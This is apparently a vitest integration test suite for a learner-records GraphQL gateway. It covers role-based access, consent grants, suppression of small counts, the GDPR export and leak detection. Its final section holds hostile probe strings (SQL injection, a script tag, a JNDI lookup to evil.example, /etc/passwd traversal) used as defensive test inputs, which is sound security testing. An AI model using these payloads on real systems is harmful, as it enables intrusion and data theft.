import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateCatalogues, generateLearner, learnerId } from '../../hub/demo.js';
import { showcaseLearners } from '../../hub/seed.js';
import { EXPORT_FORMAT } from '../../gateway/export.js';
import { startGateway, subgraphEndpoints } from '../../gateway/gateway.js';
import { readSupergraph } from '../../gateway/supergraph.js';
import { devIdpProfile } from '../../hub/dev-idp.js';
import { quietLogger } from '../../lib/log.js';
import { startTestHub, TEST_LEARNERS, type GraphQLBody, type TestHub } from '../helpers/hub.js';
import { asLearner, bearer } from '../helpers/tokens.js';

/*
 * Who may see what, through the gateway as the portal calls it: the
 * acceptance of "Who may see what" (roles, sharing grants, the data export)
 * and probes with hostile strings in every text argument.
 */

let hub: TestHub;
const catalogues = generateCatalogues();
const showcase = showcaseLearners({ learners: TEST_LEARNERS }, 5) as { id: string; members: string[] }[];
const learner = showcase[0] as { id: string; members: string[] };
const other = showcase[1] as { id: string; members: string[] };
const demo = (id: string) => generateLearner(Array.from({ length: TEST_LEARNERS }, (_, i) => i).find((i) => learnerId(i) === id) as number, catalogues);
const memberOf = (id: string) => id.slice(0, id.indexOf(':'));

/** Never in a response: stack frames, SQL, internal addresses, file paths. */
const LEAK = /\bat .*\.(ts|js):\d+|stack|select .* from|insert into|sqlite|postgres|127\.0\.0\.1|localhost|\/work\/|node_modules/i;

const PATHWAY = /* GraphQL */ `
  query ($id: ID!) {
    learner(id: $id) { id achievements { id grade learnerAccount { givenName familyName } opportunity { institution { id } } } }
    offerings(first: 3) { totalCount nodes { id } }
  }
`;
const ACHIEVEMENTS = /* GraphQL */ `query ($id: ID!) { learner(id: $id) { id achievements { id grade } } }`;
const GRANT = /* GraphQL */ `mutation ($input: GrantConsentInput!) { grantConsent(input: $input) { id status expiresAt } }`;
const REVOKE = /* GraphQL */ `mutation ($id: ID!) { revokeConsent(id: $id) { status } }`;

const codes = (body: GraphQLBody) => (body.errors ?? []).map((error) => error.extensions?.['code']);
const achievementsAt = (body: GraphQLBody) => ((body.data?.['learner']?.achievements ?? []) as { id: string }[]).map((achievement) => memberOf(achievement.id));

beforeAll(async () => {
  hub = await startTestHub();
});
afterAll(async () => {
  await hub?.stop();
});

describe('without a token', () => {
  it('serves the catalogue and refuses learner(id) with HTTP 401', async () => {
    const catalogue = await hub.query(`{ offerings(first: 2) { totalCount nodes { title } } skills(search: "teamwork", first: 1) { totalCount } }`);
    expect(catalogue.status).toBe(200);
    expect(catalogue.body.errors).toBeUndefined();
    expect(catalogue.body.data?.['offerings'].totalCount).toBeGreaterThan(0);

    const { status, body, text } = await hub.query(PATHWAY, { id: learner.id });
    expect(status).toBe(401);
    expect(body.data?.['learner']).toBeNull();
    expect(codes(body)).toEqual(['UNAUTHENTICATED']);
    expect(body.errors?.[0]?.message).toMatch(/Sign in/);
    // The public part of the same query still arrives.
    expect(body.data?.['offerings'].totalCount).toBeGreaterThan(0);
    expect(text).not.toMatch(LEAK);
  });

  it('refuses every record root field the same way', async () => {
    const account = demo(learner.id).accounts[0];
    for (const query of [
      `{ learnerAccounts { totalCount } }`,
      `{ learnerAccount(id: "${account?.id}") { id } }`,
      `{ achievement(id: "${memberOf(account?.id ?? '')}:ach-x") { id } }`,
      `{ learners { totalCount } }`,
    ]) {
      const { status, body } = await hub.query(query);
      expect(status, query).toBe(401);
      expect(codes(body), query).toEqual(['UNAUTHENTICATED']);
    }
  });
});

describe('with a learner token', () => {
  it('shows the learner their own pathway', async () => {
    const { status, body } = await hub.query(PATHWAY, { id: learner.id }, await asLearner(hub.hub, learner.id));
    expect(status).toBe(200);
    expect(body.errors).toBeUndefined();
    const expected = demo(learner.id).accounts.flatMap((account) => account.enrolments.flatMap((enrolment) => (enrolment.achievement ? [enrolment.achievement.id] : [])));
    expect((body.data?.['learner'].achievements as { id: string }[]).map((achievement) => achievement.id).sort()).toEqual([...expected].sort());
  });

  it("gets FORBIDDEN for anyone else's, and nothing of theirs", async () => {
    const { status, body, text } = await hub.query(PATHWAY, { id: other.id }, await asLearner(hub.hub, learner.id));
    expect(status).toBe(200);
    expect(body.data?.['learner']).toBeNull();
    expect(codes(body)).toEqual(['FORBIDDEN']);
    const theirs = demo(other.id).accounts[0];
    expect(text).not.toContain(theirs?.familyName);
    expect(text).not.toContain(theirs?.email);
    expect(text).not.toMatch(LEAK);
    // Nor through a record's own id.
    const achievement = demo(other.id).accounts.flatMap((account) => account.enrolments).find((enrolment) => enrolment.achievement)?.achievement;
    const direct = await hub.query(`query ($id: ID!) { achievement(id: $id) { id grade } }`, { id: achievement?.id }, await asLearner(hub.hub, learner.id));
    expect(direct.body.data?.['achievement']).toBeNull();
    expect(codes(direct.body)).toEqual(['FORBIDDEN']);
  });

  it('cannot tell an id that does not exist from a record of someone else', async () => {
    const theirs = demo(other.id).accounts.flatMap((account) => account.enrolments).find((enrolment) => enrolment.achievement);
    const member = memberOf(theirs?.achievement?.id ?? '');
    const ask = async (field: string, id: string, headers: Record<string, string>) => {
      const { body } = await hub.query(`query ($id: ID!) { ${field}(id: $id) { id } }`, { id }, headers);
      return { data: body.data?.[field] ?? null, errors: (body.errors ?? []).map((error) => [error.extensions?.['code'], error.message]) };
    };
    const callers = {
      learner: await asLearner(hub.hub, learner.id),
      'staff of another member': await bearer(hub.hub, { role: 'member-staff', memberId: member === 'tuni.fi' ? 'utwente.nl' : 'tuni.fi' }),
    };
    for (const [who, headers] of Object.entries(callers)) {
      for (const [field, existing] of [
        ['achievement', theirs?.achievement?.id],
        ['enrolment', theirs?.id],
        ['learnerAccount', demo(other.id).accounts.find((account) => account.enrolments.some((enrolment) => enrolment.id === theirs?.id))?.id],
      ] as const) {
        const missing = `${member}:${field}-that-does-not-exist`;
        const [forExisting, forMissing] = [await ask(field, existing as string, headers), await ask(field, missing, headers)];
        expect(forExisting.errors.map(([code]) => code), `${who} ${field}`).toEqual(['FORBIDDEN']);
        expect(forMissing, `${who} ${field}`).toEqual(forExisting);
      }
    }
    // Nor by asking for a credential: the issuance service answers an unknown achievement as one the caller may not see.
    const issue = async (achievementId: string) => {
      const { body } = await hub.query(`mutation ($input: IssueCredentialInput!) { issueCredential(input: $input) { created } }`, { input: { achievementId, kind: 'PARTICIPATION' } }, callers.learner);
      return (body.errors ?? []).map((error) => [error.extensions?.['code'], error.message.replaceAll(achievementId, '<id>')]);
    };
    const [forTheirs, forNothing] = [await issue(theirs?.achievement?.id as string), await issue(`${member}:achievement-that-does-not-exist`)];
    expect(forTheirs.map(([code]) => code)).toEqual(['FORBIDDEN']);
    expect(forNothing).toEqual(forTheirs);
    // The member's own staff may read every record: for them an unknown id is simply null.
    const own = await ask('achievement', `${member}:achievement-that-does-not-exist`, await bearer(hub.hub, { role: 'member-staff', memberId: member }));
    expect(own).toEqual({ data: null, errors: [] });
  });

  it('refuses analysts and administrators any person’s record', async () => {
    for (const role of ['analyst', 'alliance-admin'] as const) {
      const { body } = await hub.query(ACHIEVEMENTS, { id: learner.id }, await bearer(hub.hub, { role }));
      if (role === 'analyst') {
        expect(body.data?.['learner']).toBeNull();
      } else {
        // Administrators see the register entry, never the records in it.
        expect(body.data?.['learner']).toMatchObject({ id: learner.id, achievements: null });
      }
      expect(codes(body).length).toBeGreaterThan(0);
      expect(new Set(codes(body))).toEqual(new Set(['FORBIDDEN']));
    }
  });
});

describe("another member's staff and the learner's sharing grant", () => {
  // Staff of the learner's first member; the achievements held by the learner's other members are the shared records.
  const staffMember = () => learner.members[0] as string;
  const staff = () => bearer(hub.hub, { role: 'member-staff', memberId: staffMember() });
  const grant = async (input: Record<string, unknown>) => {
    const { body } = await hub.query(GRANT, { input: { memberId: staffMember(), purpose: 'RECOGNITION', scopes: ['ACHIEVEMENTS'], ...input } }, await asLearner(hub.hub, learner.id));
    expect(body.errors).toBeUndefined();
    return body.data?.['grantConsent'] as { id: string; expiresAt: string };
  };
  const elsewhere = () => learner.members.filter((member) => member !== staffMember());

  it('sees only its own member’s records without a grant, and not which other members the learner studies at', async () => {
    const { body, text } = await hub.query(ACHIEVEMENTS, { id: learner.id }, await staff());
    expect(new Set(achievementsAt(body))).toEqual(new Set([staffMember()]));
    // Where else the learner studies is theirs to share: no error names another member.
    expect(codes(body)).toEqual([]);
    for (const member of elsewhere()) expect(text).not.toContain(member);
    expect(text).not.toMatch(LEAK);
  });

  it('sees the other members’ achievements while the grant is valid, and not from the next request after revocation', async () => {
    const granted = await grant({});
    const during = await hub.query(ACHIEVEMENTS, { id: learner.id }, await staff());
    expect(during.body.errors).toBeUndefined();
    expect(new Set(achievementsAt(during.body))).toEqual(new Set(learner.members));

    await hub.query(REVOKE, { id: granted.id }, await asLearner(hub.hub, learner.id));
    const after = await hub.query(ACHIEVEMENTS, { id: learner.id }, await staff());
    expect(new Set(achievementsAt(after.body))).toEqual(new Set([staffMember()]));
    for (const member of elsewhere()) expect(after.text).not.toContain(member);
  });

  it('stops seeing them when the grant expires', async () => {
    await grant({ expiresAt: new Date(Date.now() + 1_500).toISOString() });
    const during = await hub.query(ACHIEVEMENTS, { id: learner.id }, await staff());
    expect(new Set(achievementsAt(during.body))).toEqual(new Set(learner.members));
    await new Promise((resolve) => setTimeout(resolve, 1_700));
    const after = await hub.query(ACHIEVEMENTS, { id: learner.id }, await staff());
    expect(new Set(achievementsAt(after.body))).toEqual(new Set([staffMember()]));
    for (const member of elsewhere()) expect(after.text).not.toContain(member);
  });

  it('refuses a grant to a member the alliance does not have, naming it', async () => {
    const { body } = await hub.query(GRANT, { input: { memberId: 'nope.example', purpose: 'RECOGNITION', scopes: ['ACHIEVEMENTS'] } }, await asLearner(hub.hub, learner.id));
    expect(body.errors?.[0]).toMatchObject({ message: 'No alliance member has the id "nope.example".', extensions: { code: 'UNKNOWN_MEMBER', member: 'nope.example', argument: 'input.memberId' } });
  });

  it('sees only the members and the kinds of record the grant names', async () => {
    const [shared, notShared] = elsewhere() as [string, string | undefined];
    const granted = await grant({ sourceMemberIds: [shared] });
    const { body, text } = await hub.query(
      `query ($id: ID!) { learner(id: $id) { achievements { id } enrolments { id } } }`,
      { id: learner.id },
      await staff(),
    );
    expect(new Set(achievementsAt(body))).toEqual(new Set([staffMember(), shared]));
    // Showcase learners study at three or more members, so one is always left out of the grant, and not even named.
    expect(notShared).toBeDefined();
    expect(text).not.toContain(notShared);
    // The shared member refuses the enrolments the grant does not cover, naming itself.
    expect((body.errors ?? []).map((error) => [error.extensions?.['code'], error.extensions?.['member']])).toEqual([['FORBIDDEN', shared]]);
    // Enrolments were not shared: only the staff's own member's arrive.
    const enrolments = (body.data?.['learner'].enrolments as { id: string }[]).map((enrolment) => memberOf(enrolment.id));
    expect(new Set(enrolments)).toEqual(new Set([staffMember()]));
    await hub.query(REVOKE, { id: granted.id }, await asLearner(hub.hub, learner.id));
  });

  it('cannot list or read a learner who neither studies at its member nor shares with it', async () => {
    const stranger = showcase.find((candidate) => !candidate.members.includes(staffMember())) as { id: string };
    const { body } = await hub.query(ACHIEVEMENTS, { id: stranger.id }, await staff());
    expect(body.data?.['learner']).toBeNull();
    expect(codes(body)).toEqual(['FORBIDDEN']);
  });
});

describe('analysts: aggregates only', () => {
  const UPTAKE = /* GraphQL */ `{
    institutions { id uptake { learners enrolments completed withdrawn assessed passed ectsAwarded } }
    offerings(first: 100) { nodes { id uptake { enrolments passed } } }
  }`;
  const everyone = Array.from({ length: TEST_LEARNERS }, (_, i) => generateLearner(i, catalogues));
  const enrolmentsAt = (memberId: string) => everyone.flatMap((person) => person.accounts).filter((account) => account.memberId === memberId).flatMap((account) => account.enrolments);

  it("gives analysts every member's and offering's uptake, true where shown, with small and revealing counts withheld", async () => {
    const { body } = await hub.query(UPTAKE, {}, await bearer(hub.hub, { role: 'analyst' }));
    expect(body.errors).toBeUndefined();
    const institutions = body.data?.['institutions'] as { id: string; uptake: Record<string, number | null> }[];
    expect(institutions).toHaveLength(13);
    let shownTotals = 0;
    for (const institution of institutions) {
      const enrolments = enrolmentsAt(institution.id);
      const achievements = enrolments.flatMap((enrolment) => (enrolment.achievement ? [enrolment.achievement] : []));
      const truth: Record<string, number> = {
        enrolments: enrolments.length,
        completed: enrolments.filter((enrolment) => enrolment.status === 'COMPLETED').length,
        assessed: achievements.length,
        passed: achievements.filter((achievement) => achievement.passed).length,
      };
      for (const [kind, count] of Object.entries(truth)) {
        const served = institution.uptake[kind];
        // Shown means true; a small count is never shown.
        if (served !== null) expect(served, `${institution.id} ${kind}`).toBe(count);
        if (count > 0 && count < 10) expect(served, `${institution.id} ${kind}`).toBeNull();
        if (served !== null) shownTotals += 1;
      }
      const failed = truth['assessed']! - truth['passed']!;
      if (failed > 0 && failed < 10) expect(institution.uptake['passed']).toBeNull();
    }
    expect(shownTotals).toBeGreaterThan(0);
    const offerings = body.data?.['offerings'].nodes as { id: string; uptake: { enrolments: number | null } }[];
    const all = [...catalogues.keys()].flatMap((memberId) => enrolmentsAt(memberId));
    let smallSeen = 0;
    for (const offering of offerings) {
      const count = all.filter((enrolment) => enrolment.opportunityId === offering.id).length;
      if (offering.uptake.enrolments !== null) expect(offering.uptake.enrolments, offering.id).toBe(count);
      if (count > 0 && count < 10) {
        smallSeen += 1;
        expect(offering.uptake.enrolments, offering.id).toBeNull();
      }
    }
    // The demo data has small offerings: the rule is exercised, not assumed.
    expect(smallSeen).toBeGreaterThan(0);
  });

  it("shows a member's staff their own member's uptake only, and learners none", async () => {
    const { body } = await hub.query(UPTAKE, {}, await bearer(hub.hub, { role: 'member-staff', memberId: 'tuni.fi' }));
    const institutions = body.data?.['institutions'] as { id: string; uptake: unknown }[];
    expect(institutions.find((institution) => institution.id === 'tuni.fi')?.uptake).not.toBeNull();
    expect(institutions.filter((institution) => institution.id !== 'tuni.fi').every((institution) => institution.uptake === null)).toBe(true);
    expect(new Set(codes(body))).toEqual(new Set(['FORBIDDEN']));
    const asLearnerBody = (await hub.query(`{ institutions { uptake { enrolments } } }`, {}, await asLearner(hub.hub, learner.id))).body;
    expect(new Set(codes(asLearnerBody))).toEqual(new Set(['FORBIDDEN']));
    const anonymous = await hub.query(`{ institution(id: "tuni.fi") { uptake { enrolments } } }`);
    expect(anonymous.status).toBe(401);
  });
});

describe('the data export (GDPR portability)', () => {
  const exportUrl = () => hub.gatewayUrl.replace(/\/graphql$/, '/learners/me/export');

  it('gives a learner everything the hub holds about them as one JSON file', async () => {
    await hub.query(GRANT, { input: { memberId: other.members[0], purpose: 'ADMISSION', scopes: ['ENROLMENTS'] } }, await asLearner(hub.hub, other.id));
    const response = await fetch(exportUrl(), { headers: await asLearner(hub.hub, other.id) });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(new RegExp(`attachment; filename="eciu-hub-export-${other.id}-\\d{4}-\\d{2}-\\d{2}\\.json"`));
    const file = (await response.json()) as Record<string, any>;
    expect(file).toMatchObject({ format: EXPORT_FORMAT, version: 1, learnerId: other.id, complete: true, problems: [] });
    const expected = demo(other.id);
    expect(file['data'].memberAccounts.map((account: { email: string }) => account.email).sort()).toEqual(expected.accounts.map((account) => account.email).sort());
    const enrolments = expected.accounts.flatMap((account) => account.enrolments);
    expect(file['data'].enrolments).toHaveLength(enrolments.length);
    expect(file['data'].achievements).toHaveLength(enrolments.filter((enrolment) => enrolment.achievement).length);
    expect(file['data'].credentials).toEqual([]);
    expect(file['data'].consentGrants).toEqual([expect.objectContaining({ granteeMember: expect.objectContaining({ id: other.members[0] }), purpose: 'ADMISSION', status: 'ACTIVE' })]);
    // Someone else's data is not in it.
    expect(JSON.stringify(file)).not.toContain(demo(learner.id).accounts[0]?.email);
  });

  it('says the learner register did not answer (503, Retry-After) rather than "nothing to export"', async () => {
    const supergraphSdl = readSupergraph();
    // The same hub, seen by a gateway whose learners subgraph is nowhere.
    const gateway = await startGateway({
      supergraphSdl,
      subgraphs: subgraphEndpoints(supergraphSdl, { ...hub.hub.urls, learners: 'http://127.0.0.1:9/graphql' }, { defaultMs: 2_000 }),
      logger: quietLogger(),
      auth: devIdpProfile(hub.hub.idp),
      hubSigner: hub.hub.hubSigner,
      corsOrigins: ['https://portal.example'],
    });
    try {
      const url = gateway.url.replace(/\/graphql$/, '/learners/me/export');
      const response = await fetch(url, { headers: await asLearner(hub.hub, other.id) });
      expect(response.status).toBe(503);
      expect(response.headers.get('retry-after')).toBe('30');
      const body = (await response.json()) as GraphQLBody;
      expect(body.errors?.[0]?.extensions?.['code']).toBe('SERVICE_UNAVAILABLE');
      expect(body.errors?.[0]?.message).toMatch(/^The export could not be assembled now: .+ Try again in a minute\.$/);
      expect(JSON.stringify(body)).not.toContain('9/graphql');
      // A portal on an allowed origin may call it with a token: the preflight says so.
      const preflight = await fetch(url, { method: 'OPTIONS', headers: { origin: 'https://portal.example', 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' } });
      expect(preflight.headers.get('access-control-allow-origin')).toBe('https://portal.example');
      expect(preflight.headers.get('access-control-allow-headers')).toMatch(/authorization/);
      expect(preflight.headers.get('access-control-allow-headers')).toMatch(/idempotency-key/);
    } finally {
      await gateway.stop();
    }
  });

  it('is refused without a token (401) and to anyone but a learner (403)', async () => {
    const anonymous = await fetch(exportUrl());
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('www-authenticate')).toBe('Bearer');
    const staff = await fetch(exportUrl(), { headers: await bearer(hub.hub, { role: 'member-staff', memberId: 'tuni.fi' }) });
    expect(staff.status).toBe(403);
    expect(((await staff.json()) as GraphQLBody).errors?.[0]?.extensions?.['code']).toBe('FORBIDDEN');
  });
});

describe('hostile strings in every text argument', () => {
  const PROBES = [
    "' OR '1'='1' --",
    '"; DROP TABLE learner; --',
    "tuni.fi:x' UNION SELECT email FROM learner_account --",
    '%_\\%',
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    '../../../../etc/passwd',
    'a\u0000b',
    'ä'.repeat(300),
  ];
  /** Each text argument of the public schema, as a query taking the probe as `$s`. */
  const ARGUMENTS: [string, string][] = [
    ['offerings.filter.text', `query ($s: String) { offerings(filter: { text: $s }) { totalCount } }`],
    ['offerings.filter.language', `query ($s: String) { offerings(filter: { language: $s }) { totalCount } }`],
    ['offerings.filter.skillUri', `query ($s: ID) { offerings(filter: { skillUri: $s }) { totalCount } }`],
    ['offerings.filter.institutionIds', `query ($s: ID!) { offerings(filter: { institutionIds: [$s] }) { totalCount } }`],
    ['offerings.after', `query ($s: String) { offerings(after: $s) { totalCount } }`],
    ['offering.id', `query ($s: ID!) { offering(id: $s) { id } }`],
    ['institution.id', `query ($s: ID!) { institution(id: $s) { id } }`],
    ['institution.offerings.filter.text', `{ institution(id: "tuni.fi") { offerings(filter: { text: "x" }) { totalCount } } }`],
    ['skill.uri', `query ($s: ID!) { skill(uri: $s) { uri } }`],
    ['skills.search', `query ($s: String) { skills(search: $s) { totalCount } }`],
    ['skills.after', `query ($s: String) { skills(after: $s) { totalCount } }`],
    ['skillGroup.uri', `query ($s: ID!) { skillGroup(uri: $s) { uri } }`],
    ['occupation.uri', `query ($s: ID!) { occupation(uri: $s) { uri } }`],
    ['occupations.search', `query ($s: String) { occupations(search: $s) { totalCount } }`],
    ['learner.id', `query ($s: ID!) { learner(id: $s) { id } }`],
    ['learners.after', `query ($s: String) { learners(after: $s) { totalCount } }`],
    ['learnerAccounts.after', `query ($s: String) { learnerAccounts(after: $s) { totalCount } }`],
    ['learnerAccount.id', `query ($s: ID!) { learnerAccount(id: $s) { id } }`],
    ['enrolment.id', `query ($s: ID!) { enrolment(id: $s) { id } }`],
    ['achievement.id', `query ($s: ID!) { achievement(id: $s) { id } }`],
    ['grantConsent.memberId', `mutation ($s: ID) { grantConsent(input: { memberId: $s, purpose: RECOGNITION, scopes: [ACHIEVEMENTS] }) { id } }`],
    ['grantConsent.purposeDescription', `mutation ($s: String) { grantConsent(input: { memberId: "tuni.fi", purpose: OTHER, purposeDescription: $s, scopes: [ACHIEVEMENTS] }) { id } }`],
    ['grantConsent.verifier.name', `mutation ($s: String!) { grantConsent(input: { verifier: { name: $s, id: "https://acme.example" }, purpose: EMPLOYMENT, scopes: [ACHIEVEMENTS] }) { id } }`],
    ['grantConsent.verifier.id', `mutation ($s: String!) { grantConsent(input: { verifier: { name: "Acme", id: $s }, purpose: EMPLOYMENT, scopes: [ACHIEVEMENTS] }) { id } }`],
    ['grantConsent.sourceMemberIds', `mutation ($s: ID!) { grantConsent(input: { memberId: "tuni.fi", purpose: RECOGNITION, scopes: [ACHIEVEMENTS], sourceMemberIds: [$s] }) { id } }`],
    ['revokeConsent.id', `mutation ($s: ID!) { revokeConsent(id: $s) { id } }`],
    ['revokeConsent.reason', `mutation ($s: String) { revokeConsent(id: "00000000-0000-4000-8000-000000000000", reason: $s) { id } }`],
  ];

  it.each(ARGUMENTS)('%s: refused or harmless, never leaking, never failing inside', async (_name, query) => {
    // A signed-in learner, so that probes reach the resolvers behind the access checks.
    const headers = await asLearner(hub.hub, learner.id);
    for (const probe of PROBES) {
      const { status, body, text } = await hub.query(query, { s: probe }, headers);
      expect(status, probe).toBeLessThan(500);
      // Messages may quote the caller's own input back; anything else matching is a leak.
      expect(text.split(JSON.stringify(probe).slice(1, -1)).join(''), probe).not.toMatch(LEAK);
      for (const code of codes(body)) {
        expect(['BAD_USER_INPUT', 'NOT_FOUND', 'FORBIDDEN', 'UNKNOWN_MEMBER', 'GRAPHQL_VALIDATION_FAILED'], `${probe}: ${JSON.stringify(body.errors)}`).toContain(code);
      }
      // A text filter is searched for literally: no probe matches everything.
      if (body.data?.['offerings']) expect(body.data['offerings'].totalCount, probe).toBe(0);
    }
  });

  it('left every table as it was', async () => {
    const { body } = await hub.query(`{ learners(first: 0) { totalCount } }`, {}, await bearer(hub.hub, { role: 'alliance-admin' }));
    expect(body.data?.['learners'].totalCount).toBe(TEST_LEARNERS);
    const own = await hub.query(PATHWAY, { id: learner.id }, await asLearner(hub.hub, learner.id));
    expect(own.body.errors).toBeUndefined();
  });
});
